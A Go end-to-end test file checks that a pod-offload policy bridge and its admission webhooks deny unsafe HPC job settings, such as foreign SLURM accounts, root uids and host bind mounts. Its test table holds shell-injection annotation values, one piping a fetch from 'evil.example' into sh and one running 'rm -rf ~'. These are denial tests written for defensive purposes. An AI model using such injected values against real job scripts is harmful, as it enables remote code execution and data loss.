package e2e

// Issue 32: what a tenant's pod becomes on the HPC side, through the interLink relay
// (as the pod's service account) and through the admission webhooks (as the requesting
// user), against the real kube-apiserver and the real binary.

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/sar-bridge/sar-bridge/test/cluster"
)

const (
	hpcNS     = "hpc-e2e"
	hpcTenant = "hpc-team"
	hpcLabel  = "sar-bridge-e2e/hpc"
	hpcConfig = "sar-bridge-e2e-hpc"
)

// hpcFixtures: a namespace of the tenant hpc-team, where carol (a user) and the runner
// ServiceAccount may create pods and offload them, and a virtual node.
var hpcFixtures = `
apiVersion: v1
kind: Namespace
metadata:
  name: hpc-e2e
  labels:
    interlink.io/tenant: hpc-team
    sar-bridge-e2e/hpc: "on"
---
apiVersion: v1
kind: Node
metadata:
  name: hpc-vk
  labels:
    virtual-node.interlink/type: virtual-kubelet
spec:
  taints:
    - {key: virtual-node.interlink/no-schedule, value: "true", effect: NoSchedule}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: runner, namespace: hpc-e2e}
---
` + podEditor("hpc-e2e", []rule{podRule("create", "get", "list", "update", "patch")}, userSubject("carol")) + `---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: offload, namespace: hpc-e2e}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: interlink-offloader}
subjects:
  - {kind: User, name: carol, apiGroup: rbac.authorization.k8s.io}
  - {kind: ServiceAccount, name: runner, namespace: hpc-e2e}
`

// hpcData is the suite's policy data plus hpc-team's HPC settings: a default account
// and uid, a uid range, the options and paths it may use.
func hpcData(t *testing.T) string {
	t.Helper()
	var data map[string]map[string]any
	if err := json.Unmarshal([]byte(policyData), &data); err != nil {
		t.Fatal(err)
	}
	data["interlink"]["hpc"] = map[string]any{"tenants": map[string]any{
		hpcTenant: map[string]any{
			"account": "proj-hpc", "partitions": []string{"cpu"}, "sbatch_options": []string{"--time"},
			"uid": 20001, "uid_ranges": [][2]int{{20000, 20999}}, "gid_ranges": [][2]int{{20000, 20999}},
			"singularity_options": []string{"--bind", "--nv"}, "mount_prefixes": []string{"/scratch/hpc-team"},
		},
	}}
	path := filepath.Join(t.TempDir(), "hpc-data.json")
	if err := os.WriteFile(path, []byte(mustMarshal(t, data)), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// hpcCase is a pod change and what each front door must answer.
type hpcCase struct {
	name        string
	annotations map[string]string
	edit        func(*corev1.Pod)
	deny        func(subject string) string // "" = allowed
}

func hpcCases() []hpcCase {
	restricted := func(key string) func(string) string {
		return func(subject string) string {
			return fmt.Sprintf("annotation %q is restricted: subject %q is not among its allowed users [] or groups [] (data.interlink.restricted_annotations)", key, subject)
		}
	}
	fixed := func(msg string) func(string) string { return func(string) string { return msg } }
	runAs := func(uid int64) func(*corev1.Pod) {
		return func(p *corev1.Pod) { p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: &uid} }
	}
	return []hpcCase{
		{name: "allowed, the tenant's account and uid set"},
		{name: "listed options and values", annotations: map[string]string{"slurm-job.vk.io/flags": "--time=1:00:00 -p cpu"}},
		{name: "a foreign account", annotations: map[string]string{"slurm-job.vk.io/flags": "--time=1:00:00 --account=proj-other"},
			deny: fixed(`sbatch option --account=proj-other (annotation "slurm-job.vk.io/flags") is not allowed for tenant "hpc-team": allowed accounts: proj-hpc (data.interlink.hpc.tenants)`)},
		{name: "a uid in the flags", annotations: map[string]string{"slurm-job.vk.io/flags": "--uid=0"},
			deny: fixed(`sbatch option --uid (annotation "slurm-job.vk.io/flags") is never allowed: the job's uid comes from the pod's securityContext.runAsUser, judged against tenant "hpc-team"'s uid ranges`)},
		{name: "uid 0", edit: runAs(0),
			deny: fixed(`spec.securityContext.runAsUser 0 is not allowed: it is root on the HPC system (data.interlink.hpc.tenants: allow_root); spec.securityContext.runAsUser 0 is outside tenant "hpc-team"'s uid ranges 20000-20999 (data.interlink.hpc.tenants)`)},
		{name: "a uid of the tenant's range", edit: runAs(20500)},
		{name: "a host bind mount", annotations: map[string]string{"slurm-job.vk.io/singularity-options": "--bind /:/host"},
			deny: fixed(`host path "/" (slurm-job.vk.io/singularity-options) is not under a path allowed for tenant "hpc-team": allowed /scratch/hpc-team (data.interlink.hpc.tenants)`)},
		{name: "shell in mpi-flags", annotations: map[string]string{"slurm-job.vk.io/mpi-flags": "$(curl -s https://evil.example/x | sh)"},
			deny: restricted("slurm-job.vk.io/mpi-flags")},
		{name: "shell in pod-ip", annotations: map[string]string{"interlink.eu/pod-ip": "1; rm -rf ~"},
			deny: func(subject string) string {
				return `annotation "interlink.eu/pod-ip" is not an IP address: the SLURM plugin writes it unquoted into the job script (export POD_IP=...); ` + restricted("interlink.eu/pod-ip")(subject)
			}},
	}
}

// applyHPCFixtures applies hpcFixtures and waits until RBAC lets carol and runner offload.
func applyHPCFixtures(t *testing.T) {
	t.Helper()
	ctx := context.Background()
	if _, err := suite.cluster.ApplyYAML(ctx, hpcFixtures); err != nil {
		t.Fatalf("fixtures: %v", err)
	}
	offload := authorizationv1.ResourceAttributes{Namespace: hpcNS, Verb: "create", Group: "interlink.io", Resource: "pods"}
	for _, u := range []struct {
		name   string
		groups []string
	}{{"carol", nil}, {cluster.ServiceAccountUser(hpcNS, "runner"), cluster.ServiceAccountGroups(hpcNS)}} {
		if err := suite.cluster.WaitForAccess(ctx, u.name, u.groups, offload, true, 30*time.Second); err != nil {
			t.Fatal(err)
		}
	}
}

func hpcBridgeArgs(t *testing.T) []string {
	return []string{"--openshift.mappings=" + hpcTenant + "=interlink.io", "--policies.data=" + hpcData(t)}
}

// TestHPCThroughTheRelay: the relay decides each create as the pod's service account
// and forwards an allowed one with the tenant's defaults applied.
func TestHPCThroughTheRelay(t *testing.T) {
	applyHPCFixtures(t)
	_, plugin, client, base := relayBridge(t, false, false, hpcBridgeArgs(t)...)
	subject := cluster.ServiceAccountUser(hpcNS, "runner")
	for i, c := range hpcCases() {
		t.Run(c.name, func(t *testing.T) {
			pod := vkPod("runner", fmt.Sprintf("hpc-relay-%d", i))
			pod.Namespace = hpcNS
			for k, v := range c.annotations {
				pod.Annotations[k] = v
			}
			if c.edit != nil {
				c.edit(&pod)
			}
			before := len(plugin.Requests())
			res, got := send(t, client, http.MethodPost, base+"/create", []byte(mustMarshal(t, retrievedPodData{Pod: pod, Containers: []retrievedContainer{{Name: "main"}, {Name: "sidecar"}}})))
			forwarded := plugin.Requests()[before:]
			if c.deny != nil {
				if want := "sar-bridge: denied: " + c.deny(subject); res.StatusCode != http.StatusForbidden || string(got) != want || len(forwarded) != 0 {
					t.Errorf("HTTP %d %q, %d forwarded; want 403 %q", res.StatusCode, got, len(forwarded), want)
				}
				return
			}
			if res.StatusCode != http.StatusOK || len(forwarded) != 1 {
				t.Fatalf("HTTP %d %q, %d forwarded; want allowed and forwarded", res.StatusCode, got, len(forwarded))
			}
			var sent retrievedPodData
			if err := json.Unmarshal(forwarded[0].Body, &sent); err != nil {
				t.Fatal(err)
			}
			checkHPCDefaults(t, &sent.Pod, c)
		})
	}
}

// checkHPCDefaults: an allowed pod carries the tenant's account (appended to its flags
// when it named none) and, when it set no runAsUser, the tenant's uid.
func checkHPCDefaults(t *testing.T, pod *corev1.Pod, c hpcCase) {
	t.Helper()
	wantFlags := "--account=proj-hpc"
	if f := c.annotations["slurm-job.vk.io/flags"]; f != "" {
		wantFlags = f + " --account=proj-hpc"
	}
	if got := pod.Annotations["slurm-job.vk.io/flags"]; got != wantFlags {
		t.Errorf("flags %q, want %q", got, wantFlags)
	}
	wantUID := int64(20001)
	if c.edit != nil {
		wantUID = 20500
	}
	if sc := pod.Spec.SecurityContext; sc == nil || sc.RunAsUser == nil || *sc.RunAsUser != wantUID {
		t.Errorf("securityContext %+v, want runAsUser %d", sc, wantUID)
	}
}

// TestHPCThroughTheWebhooks: the same pods created with kubectl by carol are decided by
// the webhooks as carol; the mutating webhook sets the tenant's defaults.
func TestHPCThroughTheWebhooks(t *testing.T) {
	ctx := context.Background()
	c := suite.cluster
	applyHPCFixtures(t)
	applyAdmissionRBAC(t)
	carol := certUser(t, "carol")

	ca, certFile, keyFile := webhookServing(t, "e2e-hpc CA")
	b := newBridge(t, append(hpcBridgeArgs(t), "--tls.server.cert-file="+certFile, "--tls.server.key-file="+keyFile)...)

	// The shipped webhooks, named and scoped for this test's namespace.
	registerScopedWebhooks(t, b.HTTPSURL(), ca.CertPEM, hpcConfig, hpcLabel)

	hpcPod := func(name string, hc hpcCase) *corev1.Pod {
		p := &corev1.Pod{
			TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"},
			ObjectMeta: metav1.ObjectMeta{Namespace: hpcNS, Name: name, Annotations: hc.annotations},
			Spec: corev1.PodSpec{NodeName: "hpc-vk", ServiceAccountName: "runner",
				Containers: []corev1.Container{{Name: "main", Image: "busybox:1.36"}}},
		}
		if hc.edit != nil {
			hc.edit(p)
		}
		return p
	}
	// The API server loads webhook configurations asynchronously: wait until a dry run
	// is refused by the bridge.
	var uid0 hpcCase
	for _, hc := range hpcCases() {
		if hc.name == "uid 0" {
			uid0 = hc
		}
	}
	var last error
	if _, ok := poll(30*time.Second, 200*time.Millisecond, func() bool {
		_, last = carol.client.CoreV1().Pods(hpcNS).Create(ctx, hpcPod("probe", uid0), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return last != nil && strings.Contains(last.Error(), "is root on the HPC system")
	}); !ok {
		t.Fatalf("the webhooks are not in force: last dry run: %v", last)
	}
	for i, hc := range hpcCases() {
		t.Run(hc.name, func(t *testing.T) {
			name := fmt.Sprintf("hpc-adm-%d", i)
			stdout, stderr, code := carol.kubectlCreate(t, hpcPod(name, hc))
			if hc.deny != nil {
				wantDenied(t, hc.name, stderr, code, podsHook, hc.deny("carol"))
				return
			}
			wantCreated(t, hc.name, stdout, stderr, code, name)
			pod, err := c.Client.CoreV1().Pods(hpcNS).Get(ctx, name, metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			checkHPCDefaults(t, pod, hc)
		})
	}
}
